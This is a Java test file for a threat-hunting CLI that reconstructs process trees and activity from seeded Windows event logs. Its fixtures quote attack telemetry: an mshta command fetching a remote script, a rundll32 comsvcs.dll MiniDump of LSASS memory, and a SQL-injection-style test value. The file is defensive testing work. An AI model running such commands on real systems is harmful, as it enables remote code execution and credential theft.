package dev.th.cli;

import static dev.th.cli.AskStore.column;
import static dev.th.cli.AskStore.json;
import static dev.th.cli.AskStore.keys;
import static dev.th.cli.AskStore.th;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * {@code th process} for every Process method of the seed. IEWIN7 (Sysmon, with GUIDs): cmd 1532
 * → rundll32 2920 → mshta 2432 → schtasks 3772, mshta connecting out three times. FS03
 * (Security 4688, no GUIDs, joined by pid within lifetimes): runas 2140 → cmd 452 → conhost
 * 2800 → ctfmon 1012.
 */
class ProcessCommandTest {
    private static final String[] MSHTA = {"process", "--muid", "IEWIN7", "--pid", "2432"};
    private static final String[] CMD_4688 = {"process", "--muid", "FS03", "--pid", "452"};

    private static String[] with(String[] target, String... more) {
        String[] all = new String[target.length + more.length];
        System.arraycopy(target, 0, all, 0, target.length);
        System.arraycopy(more, 0, all, target.length, more.length);
        return all;
    }

    @Test
    void parentChildsAndExecutionTreeJoinedByGuid() {
        JsonNode parent = json(with(MSHTA, "parent"));
        assertEquals(SeedColumnsSpec.EXECUTION_TREE, keys(parent.get(0)));
        assertEquals(List.of("rundll32.exe"), column(parent, "ChildFilename"));
        assertEquals(List.of("2920"), column(parent, "ChildPid"));
        assertEquals(List.of("schtasks.exe"), column(json(with(MSHTA, "get_childs")), "ChildFilename"));
        assertEquals(List.of("schtasks.exe"), column(json(with(MSHTA, "children")), "ChildFilename"));

        JsonNode tree = json(with(MSHTA, "execution_tree", "--period", "all"));
        assertEquals(SeedColumnsSpec.EXECUTION_TREE, keys(tree.get(0)));
        assertEquals(Set.of("cmd.exe", "rundll32.exe", "mshta.exe", "schtasks.exe"), Set.copyOf(column(tree, "ChildFilename")));
        assertEquals(4, tree.size());
        assertEquals("schtasks.exe", tree.get(3).get("ChildFilename").asText());
        Run today = th(with(MSHTA, "execution_tree"));
        assertEquals(0, today.exit(), today::toString);
        assertTrue(today.err().contains("nothing in period today"), today::toString);
    }

    @Test
    void executionTreeWithoutGuidsJoinsByPidWithinLifetimes() {
        JsonNode tree = json(with(CMD_4688, "execution_tree", "--period", "2021-11-13"));
        assertEquals(List.of("runas.exe", "cmd.exe", "conhost.exe", "ctfmon.exe"), column(tree, "ChildFilename"));
        assertEquals(List.of("2140", "452", "2800", "1012"), column(tree, "ChildPid"));
        assertEquals(List.of("runas.exe"), column(json(with(CMD_4688, "parent")), "ChildFilename"));
        assertEquals(List.of("conhost.exe"), column(json(with(CMD_4688, "childs")), "ChildFilename"));
        assertEquals("OFFSEC\\hack1\n", th(with(CMD_4688, "user")).out());
    }

    @Test
    void actionsOfTheProcess() {
        JsonNode comms = json(with(MSHTA, "communications", "--period", "all"));
        assertEquals(SeedColumnsSpec.PROCESS_COMMUNICATIONS, keys(comms.get(0)));
        assertEquals(List.of("108.179.232.58", "105.73.6.112", "105.73.6.105"), column(comms, "RemoteIp"));
        assertEquals(List.of("443"), column(json(with(MSHTA, "communications", "--port", "HTTPS", "--protocol", "TCP",
                "--iptype", "Public", "--direction", "Outgoing", "--period", "all")), "RemotePort"));
        assertEquals(1, json(with(MSHTA, "communications", "--ips", "105.73.6.105", "--period", "all")).size());
        Run top = th(with(MSHTA, "communications", "--top", "1", "--period", "all"));
        assertEquals(2, top.exit(), top::toString);

        JsonNode exec = json(with(MSHTA, "executions", "--period", "all"));
        assertEquals(SeedColumnsSpec.PROCESS_EXECUTIONS, keys(exec.get(0)));
        assertEquals(List.of("schtasks.exe"), column(exec, "ChildFilename"));
        assertEquals(1, json(with(MSHTA, "executions", "--operation", "create", "--command", "MSOFFICE_", "--file", "schtasks.exe",
                "--period", "all")).size());
        assertEquals(0, json(with(MSHTA, "executions", "--command", "' OR ''='", "--period", "all")).size());

        // rundll32 4824 on WORKSTATION5 wrote the LSASS dump; notepad 9908 made 2 registry keys and changed 8 values
        // (Sysmon 12/13), and asked for 9 key handles (Security 4656) and read 2 keys (4663, mask 0x1)
        String[] rundll32 = {"process", "--muid", "WORKSTATION5", "--pid", "4824"};
        JsonNode files = json(with(rundll32, "files", "--period", "all"));
        assertEquals(SeedColumnsSpec.FILES, keys(files.get(0)));
        // Sysmon 11 of the dump; the Security 4663 of the same pid in its lifetime reach the process too
        assertTrue(column(files, "ChildFilename").contains("lsass-comsvcs.dmp"), files::toString);
        String[] notepad = {"process", "--muid", "WORKSTATION5", "--pid", "9908"};
        JsonNode registry = json(with(notepad, "registry", "--period", "all"));
        assertEquals(SeedColumnsSpec.PROCESS_REGISTRY, keys(registry.get(0)));
        assertEquals(10 + 9 + 2, registry.size());
        for (JsonNode r : registry) {
            // every Sysmon 12/13 names its key (TargetObject); the Security log's in Sysmon's spelling
            assertTrue(r.path("Key").asText().startsWith("HK"), r::toString);
        }
        assertEquals(8, json(with(notepad, "registry", "--operation", "modify", "--period", "all")).size());
        Run bad = th(with(notepad, "registry", "--operation", "kill", "--period", "all"));
        assertEquals(2, bad.exit(), bad::toString);
        assertTrue(bad.err().contains("allowed: create, modify, access"), bad::toString);
    }

    @Test
    void propertiesAndPivots() {
        assertEquals("2432\n", th(with(MSHTA, "pid")).out());
        assertEquals("mshta.exe\n", th(with(MSHTA, "name")).out());
        assertEquals("abdfc692d9fe43e2ba8fe6cb5a8cb95a\n", th(with(MSHTA, "md5")).out());
        assertEquals("2019-05-21T15:32:57.867089Z\n", th(with(MSHTA, "get_time")).out());
        assertEquals("IEWIN7\\IEUser\n", th(with(MSHTA, "user")).out());
        JsonNode file = json(with(MSHTA, "file"));
        assertEquals(List.of("ChildMd5", "ChildPath", "ChildFilename"), keys(file.get(0)));
        assertEquals("C:\\Windows\\System32\\mshta.exe", file.get(0).get("ChildPath").asText());
        JsonNode machine = json(with(MSHTA, "machine"));
        assertEquals(AskStore.IEWIN7_MUID, machine.get(0).get("Muid").asText());
        assertEquals(8 + AskStore.recoveredOfIewin7().size(), machine.get(0).get("Events").asInt(), "8 live, 1 recovered");
        JsonNode cl = json(with(MSHTA, "commandlines", "--ntop", "1", "--period", "all"));
        assertEquals("[{\"CommandLine\":\"\\\"C:\\\\Windows\\\\System32\\\\mshta.exe\\\" https://hotelesms.com/talsk.txt\",\"Times\":1}]",
                cl.toString());
        Run bw = th(with(MSHTA, "bandwidth", "--period", "all", "--format", "csv"));
        assertEquals("Date,Outgoing,Incoming\r\n", bw.out());
    }

    @Test
    void findsTheProcessByGuidOrByTime() {
        // the GUID as the EVTX writes it (braces) and as JSON exports write it (upper case)
        assertEquals("2432\n", th("process", "--guid", "{365abb72-1a29-5ce4-0000-001079f92101}", "pid").out());
        assertEquals("2432\n", th("process", "--guid", "365ABB72-1A29-5CE4-0000-001079F92101", "--client", "default", "pid").out());
        // a time to the second, as tables show it, finds the creation within that second
        assertEquals("2432\n", th(with(MSHTA, "--time", "2019-05-21 15:32:57", "pid")).out());
        assertEquals("2432\n", th(with(MSHTA, "--time", "2019-05-21T15:40:00Z", "pid")).out());
        Run before = th(with(MSHTA, "--time", "2019-05-21T15:32:56Z", "pid"));
        assertEquals(1, before.exit(), before::toString);
        assertTrue(before.err().contains("was not created at or before"), before::toString);
        // Sysmon 1 and Security 4688 log PurpleSharp's creation 5 ms apart: one process, the one with the GUID
        assertEquals("1ddcfc208163edfa63347d54b67ac30c\n", th("process", "--muid", "WORKSTATION5", "--pid", "8972", "md5").out());

        Run none = th("process", "pid");
        assertEquals(2, none.exit(), none::toString);
        assertTrue(none.err().contains("--muid M --pid N"), none::toString);
        Run badTime = th(with(MSHTA, "--time", "yesterday", "pid"));
        assertEquals(2, badTime.exit(), badTime::toString);
        Run noGuid = th("process", "--guid", "00000000-0000-0000-0000-000000000000", "pid");
        assertEquals(1, noGuid.exit(), noGuid::toString);
        Run noPid = th("process", "--muid", "IEWIN7", "--pid", "1", "pid");
        assertEquals(1, noPid.exit(), noPid::toString);
        Run method = th(with(MSHTA, "siblings"));
        assertEquals(2, method.exit(), method::toString);
        assertTrue(method.err().contains("allowed: parent, childs, execution_tree, commandlines, executions, files, registry, "
                + "communications, bandwidth, file, machine, user, time, md5, name, pid"), method::toString);
    }

    @Test
    void processByNameMd5AndUser() {
        // the seed's Process(filename=, md5=, logged_user=): WORKSTATION5's rundll32.exe 4824 (Sysmon 1 and its 4688)
        JsonNode tree = json("process", "--name", "rundll32.exe", "--user", "wardog", "execution_tree", "--period", "all");
        assertEquals(List.of("rundll32.exe"), column(tree, "ChildFilename"));
        assertTrue(tree.get(0).path("CommandLine").asText().contains("comsvcs.dll MiniDump"), tree::toString);
        assertEquals("4824\n", th("process", "--name", "rundll32.exe", "--md5", "F68AF942FD7CCC0E7BAB1A2335D2AD26", "pid").out());
        // cmd.exe ran on several machines: the answer lists them and how to pick one
        Run several = th("process", "--name", "cmd.exe", "pid");
        assertEquals(1, several.exit(), several::toString);
        assertTrue(several.err().contains("processes match --name cmd.exe") && several.err().contains("--muid M --pid N"),
                several::toString);
        Run none = th("process", "--name", "rundll32.exe", "--user", "nobody", "pid");
        assertEquals(1, none.exit(), none::toString);
        assertTrue(none.err().contains("no process matches"), none::toString);
        Run both = th("process", "--name", "cmd.exe", "--pid", "452", "pid");
        assertEquals(2, both.exit(), both::toString);
    }
}
